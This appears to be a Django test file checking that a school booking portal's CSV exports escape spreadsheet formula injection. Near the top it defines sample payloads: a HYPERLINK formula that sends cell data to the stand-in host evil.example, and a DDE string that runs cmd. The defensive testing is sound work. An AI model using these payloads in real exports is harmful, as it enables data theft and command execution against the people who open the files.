"""Our bookings, the all-schools export and registers: a name typed into the portal reaches a
spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from members.models import Person
from programmes.services import booking_create

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for your certificate")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def booked(head, bellenden, make_programme, make_session):
    """A delegate and a programme with names a spreadsheet would run, booked by the head."""
    session = make_session(make_programme(title=TITLE))
    delegate = Person.objects.create(
        full_name=LINK, email="formula@bellenden.test", organisation=bellenden
    )
    booking_create(actor=head, organisation=bellenden, sessions=[session], delegates=[delegate])
    return session


def _rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # Excel then reads names as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("persona", ["head", "director"])
def test_it_neutralises_formulas_in_the_bookings_export(login, booked, persona):
    """Our bookings for the head; every school's bookings for the director."""
    response = login(persona).get(reverse("programmes:booking-export", args=["southwark"]))
    rows = _rows(response)
    assert rows[0][:4] == ["Delegate", "Email", "School", "Programme"]
    [row] = [row for row in rows if row[1] == "formula@bellenden.test"]
    assert row[0] == f"'{LINK}"
    assert row[3] == f"'{TITLE}"
    assert row[-1] == "0.00"


def test_it_neutralises_formulas_in_the_register(login, booked):
    url = reverse("programmes:session-register-csv", args=["southwark", booked.pk])
    rows = _rows(login("cpd-lead").get(url))
    assert rows[0][0] == "Delegate"
    assert rows[1][:2] == [f"'{LINK}", "formula@bellenden.test"]


def _filename(response) -> str:
    return response["Content-Disposition"].removeprefix('attachment; filename="').rstrip('"')


def test_it_names_our_bookings_after_the_school_and_the_day(login):
    response = login("head").get(reverse("programmes:booking-export", args=["southwark"]))
    assert _filename(response) == f"our-bookings-bellenden-road-{timezone.localdate():%Y-%m-%d}.csv"


def test_it_names_every_schools_bookings_after_the_alliance(login):
    response = login("director").get(reverse("programmes:booking-export", args=["southwark"]))
    today = f"{timezone.localdate():%Y-%m-%d}"
    assert _filename(response) == f"bookings-southwark-all-schools-{today}.csv"


def test_it_names_a_register_after_its_programme_and_session_date(
    login, head, bellenden, make_programme, make_session
):
    session = make_session(make_programme(title="Phonics: for new teachers!"), days=35)
    session.venue = "Crampton Primary School, £ hall"
    session.save()
    delegate = Person.objects.create(
        full_name="Zoë Ó Súilleabháin", email="zoe@bellenden.test", organisation=bellenden
    )
    booking_create(actor=head, organisation=bellenden, sessions=[session], delegates=[delegate])
    url = reverse("programmes:session-register-csv", args=["southwark", session.pk])
    response = login("cpd-lead").get(url)
    starts = timezone.localtime(session.starts_at)
    assert _filename(response) == f"register-phonics-for-new-teachers-{starts:%Y-%m-%d}.csv"
    header, row = _rows(response)
    assert header[-3:] == ["Programme", "Session date", "Venue"]
    assert row[0] == "Zoë Ó Súilleabháin"
    assert row[-3:] == [
        "Phonics: for new teachers!",
        f"{starts:%Y-%m-%d %H:%M}",
        "Crampton Primary School, £ hall",
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_every_formula_start_in_the_register(
    login, head, bellenden, make_programme, make_session, start
):
    session = make_session(make_programme())
    delegate = Person.objects.create(
        full_name=f"{start}1+1", email="f@bellenden.test", organisation=bellenden
    )
    booking_create(actor=head, organisation=bellenden, sessions=[session], delegates=[delegate])
    url = reverse("programmes:session-register-csv", args=["southwark", session.pk])
    [_, row] = _rows(login("cpd-lead").get(url))
    assert row[0] == f"'{start}1+1"
